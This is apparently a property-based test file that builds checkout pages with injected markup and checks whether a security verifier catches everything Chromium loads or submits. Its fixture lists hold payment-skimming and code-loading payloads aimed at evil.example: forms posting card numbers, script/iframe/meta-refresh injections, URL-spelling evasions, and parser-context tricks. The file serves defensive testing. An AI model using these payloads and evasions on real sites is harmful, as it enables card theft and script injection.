/**
 * The oracle over generated pages: one attack snippet, with one spelling of a foreign URL, placed
 * in one parser context of a legitimate checkout, chosen by fast-check. Chromium opens each page
 * and the verifier must see everything the browser made live or requested (the same judgement as
 * oracle.test.ts). A failure prints fast-check's seed and path; replay it with
 * ORACLE_SEED=<seed> ORACLE_PATH=<path>, and add the page to the corpus once understood.
 */
import fc from 'fast-check';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { compilePolicy } from '../../src/policy/compiled.js';
import type { Policy } from '../../src/policy/model.js';
import type { CorpusCase } from '../corpus/cases.js';
import { probeCase } from '../corpus/chromium-probe.js';
import { browserSawMore } from '../corpus/compare.js';
import { corpusPolicy } from '../corpus/policy.js';
import { verifyCase } from '../corpus/run-verifier.js';
import { launchChromium } from '../helpers/chromium.js';
import { startStaticServer, type StaticServer } from '../helpers/upstreams.js';

/** Small by default: every run is a real page load on 2 shared cores. */
const RUNS = Number(process.env.ORACLE_RUNS ?? 12);

/** Foreign URL spellings (evasion-vectors §3, on an http page). */
const FOREIGN_URLS = [
  'https://evil.example/g',
  '//evil.example/g',
  '/\\evil.example/g',
  'https:evil.example/g',
  'HTTPS://EVIL.EXAMPLE:443/g',
  'https://pay.gateway.example@evil.example/g',
  '&#x68;ttps://evil.example/g',
];

/** Markup that sends data, loads code or navigates; {U} is the URL. */
const SNIPPETS = [
  '<form action="{U}" method="post"><input name="cardnumber"><button>Pay</button></form>',
  '<button formaction="{U}">Pay</button>',
  '<input type="submit" formaction="{U}" value="Pay">',
  '<script src="{U}"></script>',
  '<iframe title="x" src="{U}"></iframe>',
  '<object data="{U}" width="10" height="10"></object>',
  '<embed src="{U}" width="10" height="10">',
  '<link rel="modulepreload" href="{U}">',
  '<svg width="1" height="1"><script href="{U}"></script></svg>',
  '<img src="/static/none.png" alt="" onerror="document.body.dataset.g=\'1\'">',
  '<meta http-equiv="refresh" content="0;url={U}">',
];

/** Parser contexts: {S} is the snippet. */
const CONTEXTS = [
  '{S}',
  '<form action="https://pay.gateway.example/charge" method="post"><input name="cardnumber">{S}</form>',
  '<table><tr><td>Total</td></tr>{S}</table>',
  '<table>{S}<tr><td>Total</td></tr></table>',
  '<select name="s">{S}<option>1</option></select>',
  '<select name="s"><div>{S}</div><option>1</option></select>',
  '<svg width="1" height="1">{S}</svg>',
  '<math><mtext>{S}</mtext></math>',
  '<div><template shadowrootmode="open">{S}</template></div>',
  '<div><template shadowrootmode="closed"><p>{S}</p></template></div>',
  '<details open><summary>Order</summary>{S}</details>',
  '<p>Promo <b>{S}</b></p>',
  '<!-->{S}<!-- -->',
  '<ul><li>{S}</ul>',
];

const GATEWAY_FORM = `<form action="https://pay.gateway.example/charge" method="post">
  <label>Card number <input name="cardnumber" autocomplete="cc-number"></label>
  <button>Pay</button>
</form>`;

function generatedPage(context: string, snippet: string, url: string): string {
  const markup = context.replace('{S}', snippet.replace('{U}', url));
  return `<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8">\n<title>Checkout</title>\n</head>\n<body>\n<h1>Checkout</h1>\n${GATEWAY_FORM}\n${markup}\n</body>\n</html>\n`;
}

let server: StaticServer;
let browser: Browser;
let policy: Policy;

beforeAll(async () => {
  server = await startStaticServer();
  policy = corpusPolicy(server.origin);
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

describe('oracle over generated pages', () => {
  it('the verifier never misses what Chromium makes live when a foreign target is inserted in any parser context', async () => {
    let n = 0;
    const property = fc.asyncProperty(
      fc.constantFrom(...CONTEXTS),
      fc.constantFrom(...SNIPPETS),
      fc.constantFrom(...FOREIGN_URLS),
      async (context, snippet, url) => {
        const html = generatedPage(context, snippet, url);
        const c: CorpusCase = {
          name: `generated-${n}`,
          description: 'generated',
          vectors: [],
          path: `/checkout/generated-${n++}`,
          status: 200,
          headers: [['content-type', 'text/html; charset=utf-8']],
          bytes: new TextEncoder().encode(html),
          expect: { violations: [], mayAlsoFind: [] },
          oracle: {},
        };
        const outcome = verifyCase(c, policy);
        if ('refused' in outcome) return; // blocked whole: nothing reaches the browser
        server.set(c.path, { headers: c.headers, body: c.bytes });
        const seen = await probeCase(browser, server.origin + c.path, {});
        const missed = browserSawMore(seen, { verified: outcome.verified, policy, mode: compilePolicy(policy).route(c.path).mode });
        expect(missed, `page:\n${html}`).toEqual([]);
      },
    );
    const seed = process.env.ORACLE_SEED === undefined ? undefined : Number(process.env.ORACLE_SEED);
    await fc.assert(property, {
      numRuns: RUNS,
      ...(seed === undefined ? {} : { seed }),
      ...(process.env.ORACLE_PATH ? { path: process.env.ORACLE_PATH } : {}),
    });
  }, 300_000);
});
